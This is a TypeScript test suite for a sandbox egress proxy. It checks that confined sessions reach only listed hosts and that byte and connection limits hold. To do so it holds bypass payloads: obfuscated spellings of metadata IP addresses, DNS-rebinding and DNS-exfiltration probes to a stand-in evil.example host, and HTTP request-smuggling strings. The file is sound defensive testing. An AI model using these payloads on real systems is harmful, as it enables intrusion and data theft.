import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { z } from "zod";
import { afterAll, describe, expect, test } from "vitest";
import { CONFINED } from "../kit/attacks/attack.ts";
import type { Confined } from "../kit/attacks/attack.ts";
import { HOST_LISTENERS } from "../kit/attacks/host-listeners.ts";
import { openNetworkScene } from "../kit/network/network-scene.ts";
import type { NetworkScene } from "../kit/network/network-scene.ts";
import { WORLD } from "../kit/network/network.ts";

const HUB_PORT = 3_999;
const { allAddresses, loopback, abstractSocket } = HOST_LISTENERS;
const RULES = `egress:\n  - files.wide.example\n  - ${WORLD.private}\n`;
const GOOD_RULES = "egress: [files.wide.example]\nimage: ignored\n";

function openScene({ name, engine }: Confined): Promise<NetworkScene | null> {
  return openNetworkScene({
    runtime: name,
    repositories: {
      "octo/greeter": { "README.md": "hello\n", ".github/claude-hub.yml": GOOD_RULES },
      "octo/adds": { "README.md": "hello\n", ".github/claude-hub.yml": GOOD_RULES },
      "octo/greedy": { "README.md": "hello\n", ".github/claude-hub.yml": RULES },
    },
    env: {
      PORT: String(HUB_PORT),
      CLAUDE_HUB_EGRESS_HOSTS:
        "public.example, metadata.example, private.example, rebinding.example, machine.example, hub.example:3999",
      CLAUDE_HUB_EGRESS_REPOSITORIES: "octo/adds, octo/greedy",
      CLAUDE_HUB_EGRESS_DNS: WORLD.gateway,
      CLAUDE_HUB_EGRESS_RECEIVE_BYTES: "20m",
      CLAUDE_HUB_EGRESS_SEND_BYTES: "20m",
      CLAUDE_HUB_EGRESS_SESSION_CONNECTIONS: "10",
      CLAUDE_HUB_EGRESS_CONNECTIONS: "30",
      ...(engine === undefined
        ? {}
        : { DOCKER_HOST: engine.address, CLAUDE_CONTAINER_IMAGE: engine.image }),
      CLAUDE_HUB_MAX_SESSIONS: "4",
      CLAUDE_HUB_MAX_SESSIONS_PER_REPOSITORY: "4",
    },
  });
}

const probe = await readFile(join(import.meta.dirname, "../kit/attacks/egress-probe.mjs"), "utf8");

const quote = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;

/** @param program Node.js of the right version, as it is called inside. */
function around(scene: NetworkScene | null, program: string) {
  /** Runs the probe in a sandbox, once for each list of arguments; answers what each printed. */
  async function tried(calls: string[][], repository?: string) {
    if (scene === null) throw new Error("there is no scene");
    const { status, error, events } = await scene.session(
      [
        { write: { path: "/tmp/probe.mjs", content: probe } },
        ...calls.map((args) => ({
          run: `${program} /tmp/probe.mjs ${args.map(quote).join(" ")} 2>&1`,
        })),
      ],
      repository,
    );
    expect([status, error]).toEqual(["completed", null]);
    const [, ...outputs] = events
      .filter(({ kind }) => kind === "tool.returned")
      .map(({ body }) => z.string().parse(body["text"]));
    const told = (kind: string) =>
      events.filter((event) => event.kind === kind).map(({ body }) => body);
    return { outputs, allowed: told("egress.allowed"), refused: told("egress.refused") };
  }

  function reached(): string[] {
    return (scene?.sightings ?? []).flatMap((one) => ("reached" in one ? [one.reached] : []));
  }

  function names(): string[] {
    return (scene?.sightings ?? []).flatMap((one) => ("name" in one ? [one.name] : []));
  }

  return { tried, reached, names };
}

const scenes: { runtime: string; scene: NetworkScene | null }[] = [];
for (const runtime of CONFINED)
  scenes.push({ runtime: runtime.name, scene: await openScene(runtime) });
afterAll(async () => {
  for (const { scene } of scenes) await scene?.[Symbol.asyncDispose]();
});

for (const { runtime, scene } of scenes)
  describe.skipIf(scene === null)(
    `egress from a sandbox of ${runtime} (skipped where no network namespace can be made)`,
    () => {
      const { tried, reached, names } = around(
        scene,
        runtime === "docker" ? "node" : process.execPath,
      );

      test("a listed host is reached by every way that programs have, and that is told", async () => {
        const { outputs, allowed, refused } = await tried([
          ["tunnel", "public.example:443", "public.example:80"],
          ["plain", "http://public.example/"],
          ["fetch", "http://public.example/"],
        ]);
        for (const line of outputs.join("\n").split("\n"))
          expect(line).toMatch(/200 this is the public host$/);
        expect(allowed.map(({ host, port, count }) => [host, port, count])).toEqual([
          ["public.example", 443, 1],
          ["public.example", 80, 1],
        ]);
        expect(refused).toEqual([]);
      });

      test("around the proxy there is no way at all", async () => {
        const before = reached().length;
        const { outputs } = await tried([
          [
            "direct",
            `${WORLD.public}:80`,
            `${WORLD.metadata}:80`,
            `${WORLD.private}:80`,
            `${WORLD.gateway}:53`,
            `198.18.0.1:${HUB_PORT}`,
            `127.0.0.1:${HUB_PORT}`,
            ...[allAddresses, loopback].flatMap(({ port }) => [
              `198.18.0.1:${port}`,
              `127.0.0.1:${port}`,
            ]),
            `@${abstractSocket.path.slice(1)}`,
          ],
        ]);
        const lines = (outputs[0] ?? "").split("\n");
        expect(lines).toHaveLength(11);
        for (const line of lines) expect(line).toMatch(/ENETUNREACH|EHOSTUNREACH|ECONNREFUSED/);
        expect(reached()).toHaveLength(before);
      });

      test("an address is no name, in no spelling; a name for a place that is not public is refused", async () => {
        const before = reached().length;
        const targets = [
          `${WORLD.public}:80`,
          `${WORLD.metadata}:80`,
          `${WORLD.private}:80`,
          "2852039166:80",
          "0xa9fea9fe:80",
          "0251.0376.0251.0376:80",
          "169.254.43518:80",
          "[::ffff:169.254.169.254]:80",
          "[64:ff9b::a9fe:a9fe]:80",
          `127.0.0.1:${HUB_PORT}`,
          "metadata.example:80",
          "private.example:443",
          "machine.example:80",
          `hub.example:${HUB_PORT}`,
        ];
        const { outputs, allowed, refused } = await tried([
          ["tunnel", ...targets],
          ["plain", ...targets.map((target) => `http://${target}/`)],
        ]);
        for (const line of outputs.join("\n").split("\n")) expect(line).toMatch(/ (403|400)\b/);
        expect(reached()).toHaveLength(before);
        expect(allowed).toEqual([]);
        const reasons = new Map(refused.map(({ host, reason }) => [host, reason]));
        expect(reasons.get("metadata.example")).toBe("has an address that is not public");
        expect(reasons.get("private.example")).toBe("has an address that is not public");
        expect(reasons.get("machine.example")).toBe("has an address that is not public");
        expect(reasons.get("hub.example")).toBe("is the hub itself");
        expect(reasons.get(WORLD.metadata)).toBe("is not on the list of allowed hosts");
      });

      test("a name that changes its address between check and connection gains nothing", async () => {
        const { outputs } = await tried([
          ["tunnel", ...Array.from({ length: 9 }, () => "rebinding.example:80")],
        ]);
        const lines = (outputs[0] ?? "").split("\n");
        expect(lines.filter((line) => line.endsWith("200 this is the public host"))).toHaveLength(
          3,
        );
        expect(lines.filter((line) => line.endsWith("403"))).toHaveLength(6);
        expect(reached()).not.toContain("private");
        expect(reached()).not.toContain("metadata");
      });

      test("no name is asked for that is not listed: DNS carries nothing out", async () => {
        const { outputs, refused } = await tried([
          ["tunnel", "c2VjcmV0.evil.example:443", "c2VjcmV0.public.example:443"],
          ["fetch", "http://c2VjcmV0.evil.example/", "https://c2VjcmV0.evil.example/"],
          ["direct", "c2VjcmV0.evil.example:443"],
        ]);
        expect(outputs.join("\n")).not.toContain("200");
        expect(refused.length).toBeGreaterThanOrEqual(2);
        expect(names().filter((name) => /c2vjcmv0/i.test(name))).toEqual([]);
        expect(names()).toContain("public.example");
      });

      test("requests that say two things, and requests without a token, reach nobody", async () => {
        const before = reached().length;
        const hidden = "GET /hidden HTTP/1.1\\r\\nHost: public.example\\r\\n\\r\\n";
        const post = "POST http://public.example/first HTTP/1.1\\r\\nHost: public.example\\r\\n";
        const token = "Proxy-Authorization: Bearer ";
        const { outputs } = await tried([
          [
            "bytes",
            "proxy",
            `${post}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
            `${post}Content-Length: 4\\r\\nContent-Length: 40\\r\\n\\r\\n${hidden}`,
            `${post}Transfer-Encoding: chunked, identity\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
            `GET http://public.example/ HTTP/1.1\\r\\nHost: private.example\\r\\n\\r\\n`,
            `GET http://user@public.example/ HTTP/1.1\\r\\nHost: public.example\\r\\n\\r\\n`,
            `GET https://public.example/ HTTP/1.1\\r\\nHost: public.example\\r\\n\\r\\n`,
            `CONNECT public.example\\u0000.evil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`,
            `CONNECT evil.example#.public.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`,
            `CONNECT user@public.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`,
          ],
          [
            "bytes",
            "gateway",
            "CONNECT public.example:443 HTTP/1.1\\r\\nHost: public.example:443\\r\\n\\r\\n",
            `CONNECT public.example:443 HTTP/1.1\\r\\nHost: public.example:443\\r\\n${token}${"A".repeat(43)}\\r\\n\\r\\n`,
            `GET http://public.example/ HTTP/1.1\\r\\nHost: public.example\\r\\n${token}${"A".repeat(43)}\\r\\n\\r\\n`,
          ],
        ]);
        for (const line of (outputs[0] ?? "").split("\n"))
          expect(line).toMatch(/HTTP\/1.1 4\d\d|closed/);
        for (const line of (outputs[1] ?? "").split("\n")) expect(line).toContain("HTTP/1.1 407");
        expect(reached()).toHaveLength(before);
      });

      test("a gigabyte is cut at the limit, told, and is the last that this session gets", async () => {
        const { outputs, refused } = await tried([
          ["count", "http://public.example/gigabyte"],
          ["plain", "http://public.example/"],
          ["tunnel", "public.example:443"],
        ]);
        const [how, size] = (outputs[0] ?? "").split(" ");
        expect(how).toBe("cut");
        expect(Number(size)).toBeGreaterThan(10_000_000);
        expect(Number(size)).toBeLessThan(21 * 1_048_576);
        expect(outputs.slice(1).join("\n")).toMatch(/403[\s\S]*403/);
        expect(refused[0]).toMatchObject({
          host: "public.example",
          reason: "was cut off, for the session has had as many bytes as it may",
        });
      });

      test("a gigabyte that is sent is cut at the limit and told; who sends nothing does not notice", async () => {
        const [{ outputs, refused }, other] = await Promise.all([
          tried([["pour", "http://public.example/swallow", "1073741824"]]),
          tried([["plain", ...Array.from({ length: 10 }, () => "http://public.example/")]]),
        ]);
        const [how, what, size] = (outputs[0] ?? "").split(" ");
        expect(`${how} ${what}`).toMatch(/^(cut E|answered (403|502)$)/);
        // What stands in buffers on the way was sent, too.
        expect(Number(size)).toBeLessThan(100 * 1_048_576);
        expect(refused[0]).toMatchObject({
          host: "public.example",
          reason: "was cut off, for the session has had as many bytes as it may",
        });
        for (const line of other.outputs.join("\n").split("\n"))
          expect(line).toMatch(/200 this is the public host$/);
      });

      test("a flood of connections is bounded and hurts no other session", async () => {
        const [flood, other] = await Promise.all([
          tried([
            ["hold", "public.example:443", "100"],
            ["flood", "800", "3000"],
          ]),
          tried([
            ["plain", ...Array.from({ length: 30 }, () => "http://public.example/")],
            ["tunnel", ...Array.from({ length: 30 }, () => "public.example:443")],
          ]),
        ]);
        const counts = z.record(z.string(), z.int()).parse(JSON.parse(flood.outputs[0] ?? ""));
        expect(counts["200"]).toBeLessThanOrEqual(10);
        expect(Number(/\d+/.exec(flood.outputs[1] ?? "")?.[0])).toBeGreaterThan(800);
        expect(flood.refused.map(({ reason }) => reason)).toContain(
          "would be one connection too many of this session",
        );
        expect(flood.refused.length).toBeLessThan(10);
        const lines = other.outputs.join("\n").split("\n");
        expect(lines).toHaveLength(60);
        expect(lines.filter((line) => !line.endsWith("200 this is the public host"))).toEqual([]);
      });

      test("a repository adds hosts on its default branch, if the administrator lets it, and never an address", async () => {
        const at = ["plain", "http://files.wide.example/"];
        const adds = await tried([at], "octo/adds");
        expect(adds.outputs[0]).toContain("200 this is the public host");
        const unasked = await tried([at]);
        expect(unasked.outputs[0]).toContain("403");
        const greedy = await tried([at, ["plain", `http://${WORLD.private}/`]], "octo/greedy");
        expect(greedy.outputs[0]).toContain("claude-hub.yml does not fit");
        expect(greedy.outputs[1]).toContain("403");
        expect(reached()).not.toContain("private");
      });
    },
  );
